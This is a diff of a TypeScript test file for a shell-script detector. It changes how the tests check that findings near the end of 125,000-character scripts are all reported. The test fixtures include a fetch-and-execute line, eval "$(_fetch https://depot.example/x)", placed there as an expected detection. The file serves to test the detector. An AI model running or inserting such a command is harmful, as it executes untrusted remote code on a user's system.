@@ -3,7 +3,7 @@ import { longScript } from "../../bench/long-script.js";
 import { sharedDetector } from "../support/marked.js";
 import { assertSound } from "./invariants.js";
 
-/** The ends of long scripts, with the expected finding between « and ». They use functions that the script has called many times. */
+/** Programs at the end of a long script, with the expected finding between « and ». They use functions that the script has called many times. */
 const endings: Readonly<Record<string, string>> = {
   "a function that fetches": '«eval "$(_fetch https://depot.example/x)"»\n',
   "a function that executes its argument":
@@ -19,7 +19,7 @@ const endings: Readonly<Record<string, string>> = {
 };
 
 describe("long scripts", { timeout: 120_000 }, () => {
-  // the scripts of the next test have 125,000 characters, and test/release/hostile-sizes.test.ts reads one of 250,000
+  // the script of the next test has 125,000 characters, and test/release/hostile-sizes.test.ts reads one of 250,000
   it("of 31,000 characters without a finding are analyzed completely", async () => {
     const text = longScript(31_000);
     const detection = (await sharedDetector()).detect(text);
@@ -28,11 +28,14 @@ describe("long scripts", { timeout: 120_000 }, () => {
     expect(detection.spans).toEqual([]);
   });
 
-  it.each(Object.entries(endings))("have a finding in the last lines: %s", async (_, marked) => {
-    const text = longScript(125_000, marked.replace(/[«»]/g, ""));
+  it("have all findings of their last lines", async () => {
+    const ends = Object.values(endings);
+    const text = longScript(125_000, ends.join("\n").replace(/[«»]/g, ""));
     const { findings, outcome } = (await sharedDetector()).detect(text);
     expect(outcome).toEqual({ status: "complete" });
-    expect(findings.map((finding) => finding.text)).toEqual([/«(.*)»/.exec(marked)?.[1]]);
+    expect(findings.map((finding) => finding.text)).toEqual(
+      ends.map((marked) => /«(.*)»/.exec(marked)?.[1]),
+    );
   });
 
   it.each([
